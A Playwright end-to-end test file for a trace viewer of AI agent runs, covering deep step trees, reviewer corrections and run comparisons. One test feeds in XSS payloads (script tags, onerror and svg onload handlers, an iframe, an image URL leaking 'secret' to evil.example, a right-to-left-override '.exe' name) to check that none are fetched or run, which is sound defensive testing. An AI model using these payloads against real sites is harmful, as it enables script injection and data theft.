import { expect, test } from './support/journey';

const startMs = Date.parse('2026-11-20T10:00:00Z');
const at = (ms: number) => new Date(startMs + ms).toISOString();

test('A run 20,000 steps deep, with a circle and an orphan, shows every step and walks by keyboard', async ({ page, journey }) => {
  const chain = Array.from({ length: 20_000 }, (_, index) => ({
    step_id: `d${index}`,
    parent_id: index === 0 ? null : `d${index - 1}`,
    kind: 'CHAIN',
    name: `level ${index}`,
    started_at: at(index),
    ended_at: at(40_000 - index),
    status: 'ok',
  }));
  const circle = ['a', 'b'].map((name) => ({
    step_id: name,
    parent_id: name === 'a' ? 'b' : 'a',
    kind: 'TOOL',
    name: `circle ${name}`,
    started_at: at(1),
    ended_at: at(2),
    status: 'ok',
  }));
  const orphan = {
    step_id: 'o',
    parent_id: 'never-came',
    kind: 'TOOL',
    name: 'lost child',
    started_at: at(1),
    ended_at: at(2),
    status: 'ok',
  };
  const sent = await journey.api('/api/v1/runs', {
    method: 'POST',
    body: { run_id: 'deep-trace', name: 'deep-trace', input: 'go', output: 'done', steps: [...chain, ...circle, orphan] },
  });
  expect(await sent.json()).toMatchObject({ accepted: 1 });

  await journey.open('/demo/runs/deep-trace?step=d19999');
  const tree = page.getByRole('tree', { name: 'Steps, 20003' });
  await expect(tree.getByRole('treeitem', { name: /level 19999/ })).toBeVisible();
  await expect(tree.getByRole('treeitem', { selected: true })).toHaveAttribute('aria-level', '20000');
  expect(await tree.getByRole('treeitem').count()).toBeLessThan(120);
  await tree.focus();
  await page.keyboard.press('Home');
  await expect(page).toHaveURL(/step=d0(&|$)/);
  await expect(tree.getByRole('treeitem', { name: /level 0 / }).first()).toBeVisible();
  await page.keyboard.press('End');
  await expect(tree.getByText('parent missing', { exact: true })).toBeVisible();
  await expect(tree.getByText('not received', { exact: true })).toBeVisible();
  await expect(tree.getByText('cycle', { exact: true })).toBeVisible();
  await expect(page.getByRole('article', { name: 'Step lost child' })).toBeVisible();
});

test('Nothing that a trace says is fetched, run or believed: images, scripts, hidden characters', async ({ page, journey }) => {
  const asked: string[] = [];
  await page.context().route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const evil =
    '![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/i.png" onerror="alert(1)"><script>alert(2)</script>';
  page.on('dialog', () => asked.push('a dialog'));
  await journey.api('/api/v1/runs', {
    method: 'POST',
    body: {
      run_id: 'odd/id %2F "q"',
      name: `${evil} \u202Egnp.exe\u200B`,
      input: evil,
      output: evil,
      context: [{ id: 'p1', content: `<iframe src="https://evil.example/f"></iframe> ${evil}` }],
      steps: [
        {
          step_id: '<svg/onload=alert(3)>',
          kind: 'LLM',
          name: `\u202E${evil}`,
          started_at: at(0),
          ended_at: at(5),
          input: { prompt: evil },
          output: evil,
          attributes: { 'gen_ai.input.messages': JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: evil }] }]) },
        },
      ],
    },
  });
  for (const tab of ['steps', 'evidence', 'context', 'reviews', 'raw']) {
    await journey.open(`/demo/runs/${encodeURIComponent('odd/id %2F "q"')}?tab=${tab}`);
    await expect(page.getByRole('heading', { level: 1 })).toContainText('U+202E');
  }
  await journey.open(`/demo/runs/${encodeURIComponent('odd/id %2F "q"')}`);
  await expect(page.getByText(/from evil\.example, not loaded/).first()).toBeVisible();
  await journey.open('/demo/runs');
  expect(asked).toEqual([]);
});

test('A corrected run is shown as it is, as it was, and beside the run that got it right', async ({ page, journey }) => {
  const run = (await (await journey.api('/api/v1/runs/R-1026')).json()) as Run;
  const item = run.items[0];
  // Another journey may have decided it already.
  if (item?.state !== 'done') {
    await journey.api(`/api/v1/queues/${item?.queue}/claim`, { method: 'POST', body: { item_id: item?.item_id } });
    const verdict = {
      claim_id: run.claims[0]?.id,
      value: 'wrong',
      corrected_value: 'The daily allowance is EUR 58.00 within Europe.',
      reason_code: 'number_wrong',
    };
    const answer = await journey.api(`/api/v1/items/${item?.item_id}/submit`, {
      method: 'POST',
      headers: { 'idempotency-key': `traces-${item?.item_id}` },
      body: { revision: run.revision, outcome: 'corrected', verdicts: [verdict] },
    });
    expect(answer.status).toBe(200);
  }
  await journey.open('/demo/runs/R-1026?tab=evidence&view=effective');
  await expect(page.getByRole('insertion').first()).toBeVisible();
  await page.getByText('As of now').click();
  await page.getByRole('link', { name: /Revision 1 settled/ }).click();
  await expect(page.getByText('Not reviewed').or(page.getByText('In a queue')).first()).toBeVisible();
  await journey.open('/demo/runs/R-1026/compare/R-1027');
  await expect(page.getByRole('heading', { name: 'What differs in version' })).toBeVisible();
  await expect(page.getByText('prompt version').first()).toBeVisible();
  await page.keyboard.press('j');
  await expect(page.locator('[data-difference]:focus')).toBeVisible();
  await journey.expectAccessible();
  await journey.open('/demo/runs/R-1026/compare/R-1026?view=effective');
  await expect(page.getByRole('heading', { name: 'One run, original against effective' })).toBeVisible();
  await journey.expectAccessible();
  await journey.open('/demo/runs/R-1026/siblings');
  await expect(page.getByRole('heading', { name: 'One run against its siblings' })).toBeVisible();
  await journey.expectAccessible();
});

interface Run {
  revision: string;
  claims: { id: string }[];
  items: { item_id: string; queue: string; state: string }[];
}
